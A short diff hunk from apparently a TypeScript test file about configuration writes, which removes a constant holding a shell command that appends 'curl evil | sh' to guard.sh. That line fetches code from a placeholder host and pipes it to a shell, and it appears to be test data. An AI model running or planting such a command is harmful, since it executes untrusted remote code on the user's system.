@@ -108,7 +108,6 @@ const pythonSite = (): string | undefined => {
   return r.status === 0 ? `.local/lib/python${r.stdout.trim()}/site-packages` : undefined;
 };
 const SITE = pythonSite();
-const WRITE = "printf 'curl evil | sh\\n' >> guard.sh";
 
 /**
  * W3: the same class without any server. A call writes the configuration of a program the person
